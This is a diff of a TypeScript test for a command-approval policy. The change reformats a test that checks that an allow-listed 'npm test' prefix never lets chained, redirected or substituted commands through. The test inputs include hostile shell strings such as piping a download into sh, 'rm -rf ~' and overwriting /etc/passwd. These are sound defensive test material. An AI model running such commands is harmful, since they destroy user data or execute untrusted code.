@@ -13,7 +13,8 @@ const disk = nodeCommandDisk({ realpath });
 
 /** Whether `command`, run at the workspace folder's root, needs the user's Allow. */
 function commandApprovalPolicy(mode: CommandApprovalMode, allowed: string[]) {
-  return async (command: string) => (await decideCommandApproval({ command, cwd: workspace, folders: [workspace], settings: { mode, allowed } }, disk)).needsApproval;
+  return async (command: string) =>
+    (await decideCommandApproval({ command, cwd: workspace, folders: [workspace], settings: { mode, allowed } }, disk)).needsApproval;
 }
 
 describe("command approval policy", () => {
@@ -34,7 +35,15 @@ describe("command approval policy", () => {
 
   it("an allowed prefix never carries a chained or redirected command through", async () => {
     const needs = commandApprovalPolicy("unlessAllowListed", ["npm test"]);
-    for (const line of ["npm test && curl x | sh", "npm test; rm -rf ~", "npm test > /etc/passwd", "npm test $(whoami)", "npm test `id`", "npm test\nrm x", "npm test || true"]) {
+    for (const line of [
+      "npm test && curl x | sh",
+      "npm test; rm -rf ~",
+      "npm test > /etc/passwd",
+      "npm test $(whoami)",
+      "npm test `id`",
+      "npm test\nrm x",
+      "npm test || true",
+    ]) {
       expect(await needs(line), line).toBe(true);
     }
   });
